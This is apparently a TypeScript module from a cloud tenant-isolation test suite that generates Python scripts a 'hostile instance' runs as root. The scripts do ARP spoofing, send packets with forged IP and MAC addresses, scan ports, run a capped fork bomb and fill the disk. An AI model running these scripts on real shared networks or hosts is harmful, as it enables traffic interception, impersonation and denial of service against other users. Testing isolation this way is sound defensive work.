/**
 * Programs that a hostile instance runs as root. Each one stops by itself after a limited number of packets, bytes or processes. They need
 * only Python, which cloud-init brings into every image.
 */

/** Sends ARP replies that claim other addresses for the MAC of the instance's interface. */
export const spoofArp = (addresses: readonly string[]): string => `
import socket, struct
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("host0", 0))
own = raw.getsockname()[4]
for round in range(50):
  for address in ${JSON.stringify(addresses)}:
    ip = socket.inet_aton(address)
    for target in (b"\\xff" * 6,):
      raw.send(target + own + b"\\x08\\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + ip + target + ip)`;

/** Sends UDP packets from a forged address, once with the own MAC and once with a forged one. Both must look like another instance's. */
export const spoofPackets = (
  forged: { readonly address: string; readonly mac: string },
  target: string,
  port: number,
): string => `
import socket, struct
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("host0", 0))
own = raw.getsockname()[4]
other = bytes.fromhex("${forged.mac.replaceAll(":", "")}")
def checksum(data):
  total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
  total = (total & 0xffff) + (total >> 16)
  return ~(total + (total >> 16)) & 0xffff
source, target = socket.inet_aton("${forged.address}"), socket.inet_aton("${target}")
udp = struct.pack("!HHHH", 4000, ${port}, 13, 0) + b"spoof"
header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0) + source + target
header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
for round in range(50):
  for mac in (own, other):
    raw.send(b"\\xff" * 6 + mac + b"\\x08\\x00" + header + udp)`;

/** Prints the ports of an address that accept TCP connections. */
export const scanPorts = (address: string, ports: readonly number[]): string => `
import socket
for port in ${JSON.stringify(ports)}:
  with socket.socket() as one:
    one.settimeout(0.2)
    if one.connect_ex(("${address}", port)) == 0: print(port)`;

/** Starts processes until the kernel refuses, and prints how many there were. */
export const forkBomb = `
import os, signal
pids = []
try:
  while len(pids) < 4000:
    pid = os.fork()
    if pid == 0: signal.pause()
    pids.append(pid)
except OSError as error: print(error.strerror, len(pids))
for pid in pids: os.kill(pid, 9)`;

/** Writes until the disk is full, and deletes the file. */
export const fillDisk = "dd if=/dev/zero of=/var/fill bs=1M count=4000 2>&1; rm /var/fill";
